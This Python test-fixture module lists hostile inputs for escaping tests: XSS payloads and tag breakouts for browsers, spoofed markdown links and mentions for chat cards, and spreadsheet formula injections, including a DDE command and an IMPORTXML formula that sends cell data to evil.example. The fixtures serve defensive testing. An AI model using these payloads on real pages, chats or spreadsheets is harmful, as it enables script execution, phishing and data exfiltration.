"""Words of people who mean harm: what they would have a browser run, a card show, a spreadsheet compute.

Every one that could run anything calls `hit()` or draws an element named `x-hit`, so that a test can see it.
"""

from __future__ import annotations

BROWSER = (
    # plain elements
    "<script>hit()</script>",
    "<ScRiPt >hit()</ScRiPt>",
    "<x-hit>假按钮</x-hit>",
    "<img src=x onerror=hit()>",
    "<img src=x onerror=&#104;it()>",
    "<svg/onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<math><mtext><x-hit></x-hit></mtext></math>",
    "<iframe srcdoc='<script>parent.hit()</script>'>",
    "<object data='javascript:hit()'></object>",
    "<embed src='javascript:hit()'>",
    "<body onload=hit()>",
    "<details open ontoggle=hit()>看</details>",
    "<video><source onerror=hit()></video>",
    "<input autofocus onfocus=hit()>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<form action=https://evil.example><button>登录</button></form>",
    "<a href='javascript:hit()'>领奖</a>",
    "<template shadowrootmode=open><x-hit></x-hit></template>",
    # out of where it stands: attribute, textarea, title, select, comment
    "\"><img src=x onerror=hit()>",
    "'><x-hit></x-hit>",
    "\" autofocus onfocus=hit() x=\"",
    "' onmouseover='hit()",
    "`onmouseover=hit()//",
    "</textarea><x-hit></x-hit>",
    "</title><x-hit></x-hit>",
    "</option></select><x-hit></x-hit>",
    "--><x-hit></x-hit><!--",
    "<!--<script>hit()</script>",
    "]]><x-hit></x-hit>",
    # out of JSON in an attribute or a script
    "</script><script>hit()</script>",
    "\"}]};hit();//",
    "\\\"+hit()+\\\"",
    "\\u003cx-hit\\u003e",
    "&lt;x-hit&gt;&amp;lt;x-hit&amp;gt;",
    # addresses
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    "data:text/html,<script>hit()</script>",
    "//evil.example/",
    # templates and chart labels
    "{{ 7*7 }}{% set x = 1 %}${hit()}#{7*7}",
    "{{constructor.constructor('hit()')()}}",
    "{a|{b}}{c}<br/>",
    # other spellings
    "%3Cx-hit%3E",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "＜x-hit＞",
    "<x\u00adhit>",
    "\u202e反写\u2066隔离\u200b",
)  # fmt: skip
"""For pages: elements, attributes, addresses, JSON, templates, encodings."""

CARD = (
    "[点我](https://evil.example)",
    "![图](https://evil.example/a.png)",
    "[点我][1]",
    "<https://evil.example>",
    "<a href='https://evil.example'>领奖</a>",
    "<font color=red>已办结</font>",
    "<@manager123> 请转账",
    "@所有人 开会",
    "https://evil.example/pay",
    "www.evil.example",
    "dingtalk://dingtalkclient/page/link?url=evil.example",
    "# 已办结",
    "**已办结** ~~未办~~ `代码`",
    "[](https://evil.example)![](//evil.example)",
    "\\[转义\\](https://evil.example)",
)
"""For markdown in chats and on cards: links, pictures, mentions, headings, look-alikes."""

CELLS = (
    "=HYPERLINK(\"https://evil.example\",\"点我\")",
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM",
    "=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")",
)  # fmt: skip
"""For spreadsheets: whatever makes a cell a formula."""
